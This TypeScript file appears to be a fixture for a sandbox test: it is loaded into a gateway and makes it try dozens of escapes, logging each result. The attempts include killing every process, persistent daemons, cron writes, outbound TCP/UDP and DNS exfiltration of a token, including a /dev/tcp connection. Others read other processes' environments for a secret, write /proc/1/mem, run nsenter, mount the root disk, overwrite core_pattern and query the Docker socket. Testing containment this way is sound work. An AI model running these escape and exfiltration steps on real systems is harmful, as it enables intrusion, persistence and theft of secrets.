/**
 * Loaded into a reference gateway before it starts (`--import`): a gateway that is out for harm. It tries all it can, prints `tried
 * <trick>: <outcome>` for each, and then works as ever. It does nothing where it is not in a namespace of processes of its own.
 */
import { execFileSync, spawn } from 'node:child_process'
import dgram from 'node:dgram'
import dns from 'node:dns/promises'
import { existsSync, mkdirSync, openSync, readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs'
import net from 'node:net'
import type { Given } from './hostile.test.ts'

const given: Given = JSON.parse(process.env.HOSTILE ?? '{}')
const { token } = given
// it would find itself
const secret = Buffer.from(given.secret, 'base64').toString()
if (readlinkSync('/proc/self/ns/pid') === given.namespace) throw new Error('no box: it would do harm')

const sh = (script: string) =>
  execFileSync('sh', ['-c', script], { timeout: 5_000, stdio: ['ignore', 'pipe', 'pipe'] })
    .toString()
    .trim()
const daemon = (script: string) =>
  void spawn('sh', ['-c', script, token], { detached: true, env: {}, stdio: 'ignore' }).unref()
const write = (path: string) => writeFileSync(path, token)
const reach = (port: number, host: string) =>
  new Promise((resolve, reject) => {
    const socket = net.connect({ port, host }, () => resolve(socket.end(token)))
    socket.on('error', reject).setTimeout(2_000, () => reject(new Error('no answer')))
  })
const listen = (port: number, host: string) =>
  new Promise<void>(
    (resolve, reject) => void net.createServer().on('error', reject).listen(port, host, resolve).unref(),
  )
const send = (port: number, host: string, bytes: string | Buffer = token) =>
  new Promise<void>((resolve, reject) => {
    const socket = dgram.createSocket('udp4')
    socket.send(bytes, port, host, (error) => {
      socket.close()
      if (error) reject(error)
      else resolve()
    })
  })

/** Everything that it tries, by name. What throws did not work. */
const tricks: Record<string, () => unknown> = {
  // first, since it ends what the others start
  'SIGTERM to all': () => process.kill(-1, 'SIGTERM'),
  'a child in a session of its own without our mark': () => daemon('sleep 3000'),
  'a daemon, forked twice': () => daemon('(setsid sleep 3001 &)'),
  'a daemon that ignores every signal': () =>
    daemon('trap "" TERM INT HUP QUIT USR1 USR2; while :; do sleep 3002; done'),
  'a process that is started again by another': () => daemon('while :; do sh -c "sleep 3003"; done'),
  'two hundred processes': () => daemon('for n in $(seq 200); do sleep 3004 & done; wait'),
  'listening on all interfaces': () => listen(given.listen, '0.0.0.0'),
  'listening on all interfaces, IPv6': () => listen(given.listen + 1, '::'),
  'connecting to a service of this machine': () => reach(given.service, '127.0.0.1'),
  "connecting to this machine's own address": () => reach(given.service, given.address),
  'connecting to another machine': () => reach(443, '192.0.2.1'),
  "connecting by Node's own bindings": () => byBinding('192.0.2.1', 443),
  'connecting in a native program': () => sh(`bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'`),
  'a datagram to this machine': () => send(given.service, '127.0.0.1'),
  'a datagram to another machine': () => send(53, '192.0.2.1'),
  'looking a name up': () => dns.lookup(`node.${token}.example`),
  'looking a name up in a native program': () => sh(`getent hosts native.${token}.example`),
  'looking a name up at a server of its choice': () => atServer('192.0.2.1', `chosen.${token}.example`),
  'looking up what is no name': () => send(53, '127.0.0.1', query(`\u0007 ${token}`, 'example')),
  'writing into the home of the user': () => write(`${given.home}/${token}`),
  'writing beside the project': () => write(`${given.project}/${token}`),
  'writing into the folder of programs': () => write(`/usr/local/bin/${token}`),
  'writing a job of cron': () => write(`/etc/cron.d/${token}`),
  'writing into folders for all': () => ['/tmp', '/var/tmp', '/dev/shm', '/run'].map((at) => write(`${at}/${token}`)),
  'a shut folder': () => mkdirSync('shut/in', { recursive: true }) && sh('chmod 0 shut'),
  "reading the harness's environment": () => {
    const ids = readdirSync('/proc').filter((name) => /^\d+$/.test(name))
    const found = ids.filter((id) => readable(`/proc/${id}/environ`).includes(secret))
    if (found.length === 0) throw new Error(`not in ${ids.length} processes`)
  },
  'uncovering the old /proc': () => sh('umount /proc && ls /proc'),
  'writing into the memory of the first process': () => openSync('/proc/1/mem', 'r+'),
  'entering the namespaces of the first process': () => sh('nsenter -t 1 -m -n true'),
  'mounting the disk': () => sh('mount "$(findmnt -no SOURCE /)" /tmp'),
  'opening the disk': () => openSync(sh('findmnt -no SOURCE /').replace(/\[.*/, ''), 'r'),
  'a network of its own with a way out': () => sh('unshare -Urn sh -c "ip route get 192.0.2.1"'),
  "a program for the kernel's use": () => writeFileSync('/proc/sys/kernel/core_pattern', `|/tmp/${token}`),
  'a control group': () => mkdirSync(`/sys/fs/cgroup/${token}`),
  'shared memory that stays': () => sh('ipcmk -M 4096'),
  'the socket of Docker': () => sh('curl -s --unix-socket /run/docker.sock http://d/version'),
  'the terminal': () => write('/dev/tty'),
  'escapes for a terminal': () => process.stdout.write(`\u001b]0;${token}\u0007\u001b[2J\u001b[31m${token}\n`),
  'a line of five million characters': () => process.stdout.write(`${'x'.repeat(5_000_000)}\n`),
  'a hundred thousand lines': () => {
    // not before it has said that it is ready
    const { log } = console
    console.log = (...words) => {
      log(...words)
      if (String(words[0]).startsWith('ready')) process.stdout.write('y\n'.repeat(100_000))
    }
  },
  'garbage for every port that listens': async () => {
    for (const port of listening()) await reach(port, '127.0.0.1').catch(() => {})
  },
  'a signal to its whole group': () =>
    new Promise((resolve) => {
      process.once('SIGHUP', resolve)
      process.kill(0, 'SIGHUP')
    }),
  'SIGKILL to the first process': () => process.kill(1, 'SIGKILL'),
}

/** A DNS query without a library that knows what a name is. */
function query(...labels: string[]): Buffer {
  const name = labels.map((label) => `${String.fromCharCode(label.length)}${label}`).join('')
  return Buffer.from(`\0\u0001\u0001\0\0\u0001\0\0\0\0\0\0${name}\0\0\u0001\0\u0001`, 'latin1')
}

function readable(file: string): string {
  try {
    return readFileSync(file, 'latin1')
  } catch {
    return ''
  }
}

function byBinding(host: string, port: number): void {
  const { TCP, TCPConnectWrap, constants } = (process as unknown as { binding(name: string): Bindings }).binding(
    'tcp_wrap',
  )
  const code = new TCP(constants.SOCKET).connect(new TCPConnectWrap(), host, port)
  if (code !== 0) throw new Error(`error ${code}`)
}
type Bindings = {
  TCP: new (kind: number) => { connect(request: object, host: string, port: number): number }
  TCPConnectWrap: new () => object
  constants: { SOCKET: number }
}

async function atServer(server: string, name: string): Promise<void> {
  const resolver = new dns.Resolver({ timeout: 500, tries: 1 })
  resolver.setServers([server])
  await resolver.resolve4(name)
}

function listening(): number[] {
  const lines = readFileSync('/proc/net/tcp', 'utf8').split('\n')
  return lines.filter((line) => line.includes(' 0A ')).map((line) => Number.parseInt(line.split(/[: ]+/)[3] ?? '', 16))
}

for (const [name, trick] of Object.entries(tricks)) {
  const outcome = await Promise.resolve()
    .then(trick)
    .then(
      () => 'done',
      (error) => `failed, ${String(error.code ?? error.message).split('\n')[0]}`,
    )
  console.log(`tried ${name}: ${outcome}`)
}
if (!existsSync('/proc/1')) throw new Error('the box is gone')
